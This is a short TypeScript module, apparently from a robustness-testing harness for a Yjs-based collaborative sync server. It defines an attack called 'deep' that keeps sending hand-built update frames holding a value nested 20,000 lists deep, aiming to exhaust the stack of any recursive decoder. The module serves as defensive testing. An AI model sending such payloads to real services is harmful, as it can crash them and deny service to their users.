import { type Part, writeFrame } from '../../../collab-server/sync/fixtures/frames.ts';
import type { Attack } from '../attack.ts';
import { insistOnSeat, SYNC, WORD } from '../openSeat.ts';

const DEPTH = 20_000;
// lib0's marks of a list and of null, Yjs' of any value under a key, and of a root map named in the update.
const [LIST, NULL, ANY_UNDER_KEY, NAMED_ROOT] = [117, 126, 0x28, 1];

/** Values so deep that whoever walks them by recursion runs out of stack. */
export const deepValues: Attack = {
  name: 'deep',
  means: `a value of ${DEPTH} lists in one another`,
  async run({ seats: [seat], random, isOver, count }) {
    if (!seat) return;
    while (!isOver()) {
      const open = await insistOnSeat(seat, isOver);
      for (let edit = 0; edit < 20 && open?.socket.isOpen(); edit += 1) {
        open.say(WORD.sync, SYNC.update, nested(Math.floor(random() * 2 ** 31)));
        count(1);
        await open.socket.drained();
      }
      open?.socket.close();
    }
  },
};

// Yjs itself cannot write such a value: it is put together by hand.
function nested(client: number): Uint8Array {
  const lists = Array.from({ length: DEPTH }, (): Part[] => [LIST, 1]).flat();
  return writeFrame(1, 1, client, 0, ANY_UNDER_KEY, NAMED_ROOT, 'meta', 'title', 1, ...lists, NULL, 0);
}
